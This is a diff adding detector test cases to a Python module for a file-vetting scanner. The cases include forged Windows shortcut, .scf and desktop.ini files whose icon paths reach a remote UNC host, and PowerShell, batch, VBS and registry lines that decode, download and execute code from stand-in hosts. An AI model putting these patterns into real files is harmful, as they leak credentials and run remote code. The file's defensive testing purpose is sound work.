@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from functools import partial
 from typing import Any, Literal
 
 from openvet.testing.case import Case
@@ -79,6 +80,58 @@ _ROWS: tuple[_Row, ...] = (
 )  # fmt: skip
 
 
+_SHOWN: tuple[tuple[str, str, str, Literal["admit", "reject"]], ...] = (
+    (
+        "shortcut",
+        "forged.url",
+        "[InternetShortcut]\r\nURL=https://example.org\r\nIconFile=\\\\192.0.2.1\\x\\x.ico\r\n",
+        "reject",
+    ),
+    ("shortcut-file", "forged.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/x\r\n", "reject"),
+    ("shell-command", "forged.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n", "reject"),
+    ("folder", "desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.1\\x.ico,0\r\n", "reject"),
+    ("library", "forged.library-ms", "<libraryDescription><url>\\\\192.0.2.1\\x</url></libraryDescription>", "reject"),
+    ("ordinary-shortcut", "page.url", "[InternetShortcut]\r\nURL=https://example.org/a\r\nIconIndex=0\r\n", "admit"),
+    (
+        "ordinary-folder",
+        "desktop.ini",
+        "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n",
+        "admit",
+    ),
+)
+#: Scripts of Windows whose parts stand on lines of their own.
+_LINES: tuple[tuple[str, str, str, Literal["admit", "reject"]], ...] = (
+    (
+        "decoded",
+        "run.ps1",
+        "$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))\r\niex $x\r\n",
+        "reject",
+    ),
+    (
+        "downloaded",
+        "run.ps1",
+        "$x = (New-Object Net.WebClient).DownloadString('http://example.org/x')\r\niex $x\r\n",
+        "reject",
+    ),
+    ("fetched", "run.bat", "curl -o x.exe http://example.org/x.exe\r\nx.exe\r\n", "reject"),
+    ("backticks", "run.ps1", "powershell `\r\n  -enc `\r\n  YwBhAGwAYwA=\r\n", "reject"),
+    ("answer", "run.vbs", 'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.send\r\nExecute x.responseText\r\n', "reject"),
+    ("registry", "run.reg", 'Windows Registry Editor Version 5.00\r\n"x"="powershell -enc YwBhAGwAYwA="\r\n', "reject"),
+    (
+        "ordinary-decoded",
+        "run.ps1",
+        "$b = [Convert]::FromBase64String($s)\r\n[IO.File]::WriteAllBytes('x.png', $b)\r\niex 'conda'\r\n",
+        "admit",
+    ),
+    (
+        "ordinary-fetched",
+        "run.ps1",
+        "iwr https://example.org/setup.exe -OutFile setup.exe\r\nStart-Process setup.exe -Wait\r\n",
+        "admit",
+    ),
+)
+
+
 def _case(
     name: str, technique: str, file: str, text: str, decision: Literal["admit", "review", "reject"], rule: str
 ) -> Case:
@@ -86,4 +139,32 @@ def _case(
     return Case(f"evaluated/{name}", technique, lambda: files, decision, frozenset({rule} if rule else ()))
 
 
-CASES: tuple[Case, ...] = tuple(_case(*row) for row in _ROWS)
+CASES: tuple[Case, ...] = (
+    *(_case(*row) for row in _ROWS),
+    *(
+        Case(
+            f"evaluated/shown-{name}",
+            f"what Windows does when it shows the folder: {name}",
+            partial(str.encode, text),
+            decision,
+            frozenset({_TOOL} if decision == "reject" else ()),
+            (),
+            (),
+            file,
+        )
+        for name, file, text, decision in _SHOWN
+    ),
+    *(
+        Case(
+            f"evaluated/lines-{name}",
+            f"a script of Windows over several lines: {name}",
+            partial(str.encode, text),
+            decision,
+            frozenset({"hub/shell-command"} if decision == "reject" else ()),
+            (),
+            (),
+            file,
+        )
+        for name, file, text, decision in _LINES
+    ),
+)
